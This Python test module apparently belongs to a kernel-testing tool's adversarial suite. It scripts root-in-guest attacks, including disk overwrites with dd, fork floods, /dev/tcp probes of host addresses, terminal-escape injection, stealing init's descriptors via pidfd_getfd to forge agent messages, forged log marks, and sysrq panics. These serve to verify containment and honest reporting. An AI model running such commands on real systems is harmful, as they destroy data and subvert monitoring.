# SPDX-License-Identifier: GPL-2.0
"""What a test does that is root in its guest, with a real kernel in a real virtual machine."""

from __future__ import annotations

import errno
import functools
import hashlib
import os
from collections.abc import Callable
from pathlib import Path

from attack import hostile
from attack.hostile import Change
from attack.scene import SELFTESTS, TESTS, Scene
from attack.table import Attack, Kind
from kseries.lib.paths import Cache

GOOD = "echo 'TAP version 13'; echo 1..1; echo 'ok 1 fine'"
READ_SIZE = 1 << 20
KEPT_LIMIT = 256 << 20  # bytes of a run, however much a guest says; it is run three times
FORGED = "kseries: end netdevsim/ping.py [0123456789ab0123456789abcdef]"
WARNING = "WARNING: CPU: 0 PID: 1 at net/core.c:1 foo+0x1/0x2"


def _runs(script: str, *, first: str = "attempted") -> Callable[[Scene], None]:
    """Let the first test of a series be a script that says in the end that all is well."""

    def act(scene: Scene) -> None:
        text = f"{hostile.PROLOGUE}cd /tmp\n{first}\n{script}\n{GOOD}\n"
        name = f"{SELFTESTS}/{TESTS[0]}"
        change = Change(files={name: text}, executable=(name,))
        core = Change(replace=(("net/core.c", "return budget;", "return budget + 1;"),))
        before = _images()
        scene.run_in_guest(hostile.series(scene, "guest", core, change))
        scene.kseries("report", terminal=True)
        after = _images()
        if any(after.get(image) != facts for image, facts in before.items()):
            scene.breach("wrote to the image of the guest's root file system")
        kept = sum(file.lstat().st_size for file in (scene.toyproject.root / "out/runs").rglob("*"))
        if kept > KEPT_LIMIT:
            scene.breach(f"left {kept >> 20} MiB in the run's folder")

    return act


def _images() -> dict[Path, str]:
    """Give the images of root file systems of guests, with the digest of each."""
    found = {file: file.stat().st_mtime_ns for file in Cache.find().rootfs.glob("*.ext4")}
    return {file: _digest(file, changed) for file, changed in found.items()}


@functools.cache
def _digest(file: Path, _changed: int) -> str:
    """Give the digest of a sparse file's data, and of where they are.

    Its time alone says nothing: another run may say by it that it uses the image.
    """
    found = hashlib.sha256()
    with file.open("rb") as image:
        end, start = os.fstat(image.fileno()).st_size, 0
        while start < end:
            try:
                data = os.lseek(image.fileno(), start, os.SEEK_DATA)
            except OSError as error:
                if error.errno == errno.ENXIO:  # no more data
                    break
                raise
            start = os.lseek(image.fileno(), data, os.SEEK_HOLE)
            found.update(f"{data} {start}\n".encode())
            for place in range(data, start, READ_SIZE):
                found.update(os.pread(image.fileno(), min(READ_SIZE, start - place), place))
    return found.hexdigest()


def _python(text: str) -> str:
    return f"cat > attack.py <<'END'\n{text}\nEND\npython3 attack.py"


# The guest's init has the channel to the host and the kernel log open; whoever is root can take
# such files from it (pidfd_open, pidfd_getfd).
TAKEN = """\
import ctypes, os, sys
libc = ctypes.CDLL(None)
init = libc.syscall(434, 1, 0)
def taken(name):
    all = [libc.syscall(438, init, number, 0) for number in range(3, 16)]
    return [own for own in all if own >= 0 and name in os.readlink(f'/proc/self/fd/{own}')]
"""

CONTAINED = (
    ("fills the memory of the guest", "memory", "tail /dev/zero"),
    ("starts processes until it gets no more", "processes",
     "timeout -s KILL 10 bash -c 'while sleep 1000 & do :; done' 2> /dev/null; pkill -KILL sleep"),
    ("fills the guest's disk", "disk", "head -c 8G /dev/zero > full; rm -f full"),
    ("writes over the guest's disks", "writes-disk",
     "for d in /dev/vd*; do dd if=/dev/urandom of=$d bs=1M count=64 conv=notrunc; done 2> /dev/null; sync"),
    ("prints 20 million empty lines", "output", "head -c 20000000 /dev/zero | tr '\\0' '\\n'"),
    ("prints one line of 100 MB", "long-line", "head -c 100000000 /dev/zero | tr '\\0' y; echo"),
    ("writes 30,000 lines to the kernel log", "floods-log",
     "i=0; while [ $i -lt 30000 ]; do echo line $i; i=$((i + 1)); done > /dev/kmsg"),
    ("prints what terminals obey", "escapes",
     r"for to in /dev/stdout /dev/kmsg /dev/console; do printf '\033]0;owned\007\033c\033[2J\233\n' > $to; done"),
    ("calls the host over a network", "network",
     "for to in 10.0.2.2 127.0.0.1 192.168.122.1; do timeout 2 bash -c \"echo x > /dev/tcp/$to/@PORT@\" && [ $to != 127.0.0.1 ] && breach \"reached $to\"; done 2> /dev/null"),
    ("mounts folders of the host", "mounts",
     "mkdir m; for tag in /dev/root root host kernel fsdev0; do for kind in 9p virtiofs; do mount -t $kind $tag m 2> /dev/null && breach \"mounted $tag\"; done; done"),
    ("reads the host's memory and firmware settings", "firmware",
     "modprobe qemu_fw_cfg 2> /dev/null; cat /sys/firmware/qemu_fw_cfg/by_name/*/raw /proc/iomem 2> /dev/null | grep -a @HOST@ && breach 'knows a path of the host'"),
    ("leaves processes that do not end", "daemons", "for n in 1 2 3; do setsid sh -c 'trap \"\" TERM HUP; while :; do sleep 1; done' > /dev/null 2>&1 & done"),
    ("kills the guest's init", "kills-init", "kill -9 1; kill -SEGV 1; kill -STOP 1"),
    ("takes the console away", "takes-console", "mount --bind /dev/null /dev/console; mount --bind /dev/null /dev/kmsg"),
)  # fmt: skip

NO_PASS = (
    ("darkens the console", "hides-log", "dmesg -n 1; echo N > /sys/module/printk/parameters/ignore_loglevel"),
    ("takes the console from the kernel", "unplugs-console", "for c in /sys/class/tty/ttyS0/console; do echo N > $c; done"),
    ("sets a taint", "taints", "echo 64 > /proc/sys/kernel/tainted"),
    ("has the kernel warn", "warns", f"echo '<4>{WARNING}' > /dev/kmsg"),
    ("forges our marks in the kernel log", "forges-marks", f"printf '\\n%s\\n' '{FORGED}' > /dev/kmsg"),
    ("forges our marks on the console", "forges-console", f"printf '\\n%s\\n' '{FORGED}' > /dev/ttyS0"),
    ("sends frames as the guest's agent", "sends-frames",
     _python(f"{TAKEN}os.write(taken('vport')[0], b'O\\xff\\xff\\xff\\xff')")),
    ("says as the agent that it ended well", "sends-end",
     _python(f"{TAKEN}os.write(taken('vport')[0], b'X\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\x00')\nimport time; time.sleep(2)")),
    ("reads the kernel log before the agent does", "takes-records",
     _python(f"{TAKEN}log = os.open('/dev/kmsg', os.O_WRONLY)\nfor own in taken('/dev/kmsg') * 500:\n"
             "    os.write(log, b'one more\\n')\n    try:\n        os.read(own, 8192)\n    except OSError:\n        pass")),
    ("takes the channel to the host away", "unbinds-channel",
     "cd /sys/bus/virtio/drivers/virtio_console; for d in virtio*; do echo $d > unbind; done; sleep 5"),
    ("has the kernel panic", "panics", "sleep 1; echo c > /proc/sysrq-trigger"),
    ("resets the machine", "resets", "sleep 1; echo b > /proc/sysrq-trigger; sleep 5"),
    ("powers the machine off", "powers-off", "sleep 1; echo o > /proc/sysrq-trigger; sleep 10"),
    ("plans two cases and runs one", "short-plan", "echo 'TAP version 13'; echo 1..2; echo 'ok 1 fine'; exit 0"),
    ("says that a case fails, and ends with 0", "failing-case", "echo 'TAP version 13'; echo 1..1; echo 'not ok 1 fine'; exit 0"),
    ("says in the end of a plan that it gives up", "bails-out", "echo 'TAP version 13'; echo 'ok 1 fine'; echo 'Bail out! no'; exit 0"),
)  # fmt: skip

ATTACKS = tuple(
    Attack(
        f"guest-{name}",
        Kind.GUESTS,
        f"{tries} (its test is root in the guest)",
        _runs(script),
        may_pass=may_pass,
        real=True,
    )
    for rows, may_pass in ((CONTAINED, True), (NO_PASS, False))
    for tries, name, script in rows
)
